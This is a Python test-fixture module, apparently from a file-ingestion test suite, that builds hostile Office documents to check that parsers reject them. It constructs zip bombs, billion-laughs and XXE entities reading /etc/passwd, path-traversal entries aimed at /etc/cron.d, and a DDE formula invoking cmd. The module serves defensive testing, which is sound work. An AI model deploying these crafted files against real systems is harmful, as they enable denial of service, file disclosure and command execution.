"""Office files and other archives: bombs, entities, paths that lead out, locks, missing pieces."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Any

from tests.ingest.files import docx_file, part, with_part, xlsx_file
from tests.ingest.hostile.trap import PLANTED, Trap, trap

MB = 2**20
SAID = "The hose of the Brew One is rinsed once a week."
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)) + "]>"
)
OUTSIDE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@cache
def docx() -> bytes:
    """A good one."""
    return docx_file(lambda document: [document.add_heading("Care", 1), document.add_paragraph(SAID)])


@cache
def xlsx() -> bytes:
    """A good one."""

    def fill(workbook: Any) -> None:
        workbook.active.append(["Part", "Care"])
        workbook.active.append(["Hose", SAID])

    return xlsx_file(fill)


@cache
def pptx() -> bytes:
    """A good one."""
    import pptx as library

    deck = library.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text, slide.placeholders[1].text = "Care", SAID
    made = io.BytesIO()
    deck.save(made)
    return made.getvalue()


MAIN = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml"}


def good(kind: str) -> bytes:
    """A good file of this kind."""
    return {"docx": docx, "xlsx": xlsx, "pptx": pptx}[kind]()


@cache
def packed_zeros(size: int) -> tuple[bytes, int]:
    """`size` zeros as a deflate stream, and their CRC."""
    packer, crc, block = zlib.compressobj(9, zlib.DEFLATED, -15), 0, bytes(MB)
    pieces = []
    for _ in range(size // MB):
        pieces.append(packer.compress(block))
        crc = zlib.crc32(block, crc)
    return b"".join([*pieces, packer.flush()]), crc


def with_bomb(raw: bytes, names: list[str], size: int, claimed: int | None = None) -> bytes:
    """The archive with entries that all lie over one stream of zeros."""
    stream, crc = packed_zeros(size)
    claimed = size if claimed is None else claimed
    end = raw.rindex(b"PK\x05\x06")
    count, _, start = struct.unpack("<HII", raw[end + 10 : end + 20])
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(stream), claimed, len(names[0]), 0)
    body = raw[:start] + b"PK\x03\x04" + head + names[0].encode() + stream
    entries = b""
    for name in names:
        entry = struct.pack(
            "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, crc, len(stream), claimed, len(name), *[0] * 5, start
        )
        entries += b"PK\x01\x02" + entry + name.encode()
    total, directory = count + len(names), raw[start:end] + entries
    tail = struct.pack("<HHHHIIH", 0, 0, total, total, len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + tail


def with_prolog(raw: bytes, name: str, prolog: str, entity: str, encoding: str = "utf-8") -> bytes:
    """A document type put before one part, and its entity into the text."""
    text = part(raw, name).decode()
    text = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
    text = text.replace(SAID, f"{SAID} &{entity};")
    declared = f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{text}'
    return with_part(raw, name, declared.encode(encoding))


def locked_office() -> bytes:
    """What Office's password leaves: an OLE container with an encrypted package."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2048)


def with_lock_flags(raw: bytes) -> bytes:
    """Every entry says that it is encrypted."""
    made = bytearray(raw)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = made.find(mark)
        while where >= 0:
            made[where + at] |= 1
            where = made.find(mark, where + 4)
    return bytes(made)


def deep(raw: bytes, name: str, opening: str, closing: str, inside: str) -> bytes:
    """100,000 elements in each other."""
    text = part(raw, name).decode()
    return with_part(raw, name, text.replace(inside, opening * 100_000 + inside + closing * 100_000, 1).encode())


def traps() -> Iterator[Trap]:
    """All of them."""
    yield from _bombs()
    yield from _entities()
    yield from _broken()
    yield from _odd_documents()
    yield from _odd_sheets()


def _bombs() -> Iterator[Trap]:
    for kind, main in MAIN.items():
        folder = main.split("/")[0]
        raw = good(kind)
        yield trap(f"bomb.{kind}", "ARCHIVE_TOO_LARGE", with_bomb(raw, [f"{folder}/big.xml"], 320 * MB))
        yield trap(f"bomb that lies.{kind}", "BROKEN", with_bomb(raw, [f"{folder}/big.xml"], 320 * MB, claimed=1000))
    layers = [f"word/layer{number}.xml" for number in range(4000)]
    yield trap("overlapping.docx", "ARCHIVE_TOO_LARGE", with_bomb(docx(), layers, 32 * MB))
    inner = with_bomb(docx(), ["word/big.xml"], 320 * MB)
    yield trap("nested.docx", "live", with_part(docx(), "word/embeddings/inner.docx", inner))
    many = io.BytesIO(xlsx())
    with zipfile.ZipFile(many, "a") as archive:
        for number in range(12_000):
            archive.writestr(f"xl/media/{number}.bin", b"")
    yield trap("many parts.xlsx", "ARCHIVE_TOO_LARGE", many.getvalue())


def _entities() -> Iterator[Trap]:
    for kind, main in MAIN.items():
        yield trap(f"laughs.{kind}", "UNSAFE_XML", with_prolog(good(kind), _text_part(kind), LAUGHS, "a10"))
        yield trap(f"outside.{kind}", "UNSAFE_XML", with_prolog(good(kind), _text_part(kind), OUTSIDE, "x"))
        del main
    yield trap("laughs in UTF-16.docx", "UNSAFE_XML", with_prolog(docx(), MAIN["docx"], LAUGHS, "a10", "utf-16"))
    yield trap("laughs in UTF-7.docx", "UNSAFE_XML|BROKEN", with_prolog(docx(), MAIN["docx"], LAUGHS, "a10", "utf-7"))
    late = "<!-- " + "x" * 100_000 + " -->" + LAUGHS
    yield trap("late laughs.docx", "UNSAFE_XML|BROKEN", with_prolog(docx(), MAIN["docx"], late, "a10"))
    late = "<!-- " + "x" * 100_000 + " -->" + OUTSIDE
    yield trap("late outside.docx", "UNSAFE_XML|BROKEN|live", with_prolog(docx(), MAIN["docx"], late, "x"))


def _text_part(kind: str) -> str:
    return "xl/worksheets/sheet1.xml" if kind == "xlsx" else MAIN[kind]


def _broken() -> Iterator[Trap]:
    for kind in MAIN:
        raw = good(kind)
        for share in (0.25, 0.75):
            yield trap(f"cut at {share}.{kind}", "BROKEN", raw[: int(len(raw) * share)])
        yield trap(f"password.{kind}", "ENCRYPTED", locked_office())
    yield trap("without its end.docx", "BROKEN", docx()[:-10])
    yield trap("locked entries.docx", "ENCRYPTED", with_lock_flags(docx()))
    yield trap("bytes flipped.docx", "BROKEN", docx()[:900] + bytes(200) + docx()[1100:])
    yield trap(
        "no content.docx", "BROKEN", with_part(docx(), "word/_rels/document.xml.rels", b"")[:0] + _without(docx())
    )
    yield trap("a workbook in truth.docx", "TYPE_MISMATCH", xlsx())
    yield trap("a letter in truth.pptx", "TYPE_MISMATCH", docx())
    yield trap("any archive.xlsx", "TYPE_MISMATCH", _archive({"a.txt": b"text"}))


def _without(raw: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(made, "w") as new:
        for entry in old.infolist():
            if entry.filename != "word/document.xml":
                new.writestr(entry, old.read(entry))
    return made.getvalue()


def _archive(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def _odd_documents() -> Iterator[Trap]:
    yield trap("leads out.docx", "live", with_part(docx(), "../../../../tmp/out.xml", f"<a>{PLANTED}</a>".encode()))
    yield trap("absolute.docx", "live", with_part(docx(), "/etc/cron.d/out", PLANTED.encode()))
    rows = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    yield trap("deep tables.docx", "BROKEN|live", deep(docx(), MAIN["docx"], *rows, "<w:p>"))
    rels = part(docx(), "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
    )
    yield trap("picture from outside.docx", "live", with_part(docx(), "word/_rels/document.xml.rels", rels))

    def hidden(document: Any) -> None:
        document.add_paragraph(SAID)
        document.add_paragraph().add_run(PLANTED).font.hidden = True

    yield trap("hidden words.docx", "live", docx_file(hidden))


def _odd_sheets() -> Iterator[Trap]:
    def formulas(workbook: Any) -> None:
        workbook.active.append(["Part", "Care"])
        workbook.active.append(["Hose", SAID])
        workbook.active.append([f"=cmd|'/C {PLANTED}'!A0", f'=HYPERLINK("http://a.example/{PLANTED}","Click")'])

    yield trap("formulas.xlsx", "live", xlsx_file(formulas))
    sheet = part(xlsx(), MAIN["xlsx"])
    wide = sheet.replace(b'<dimension ref="A1:B2"', b'<dimension ref="A1:XFD1048576"')
    yield trap("claims every cell.xlsx", "live", with_part(xlsx(), MAIN["xlsx"], wide))
    merged = sheet.replace(b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield trap("merges every cell.xlsx", "live", with_part(xlsx(), MAIN["xlsx"], merged))
    far = sheet.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="str"><v>far</v></c></row></sheetData>')
    yield trap("far corner.xlsx", "live", with_part(xlsx(), MAIN["xlsx"], far))
    merges = b"".join(b'<mergeCell ref="A%d:CV%d"/>' % (row, row + 99) for row in range(1, 500_000, 100))
    spread = sheet.replace(b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>")
    yield trap("merges by the thousand.xlsx", "live", with_part(xlsx(), MAIN["xlsx"], spread))
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (row, row) for row in range(3, 30_000, 2))
    yield trap(
        "islands.xlsx", "live", with_part(xlsx(), MAIN["xlsx"], sheet.replace(b"</sheetData>", rows + b"</sheetData>"))
    )
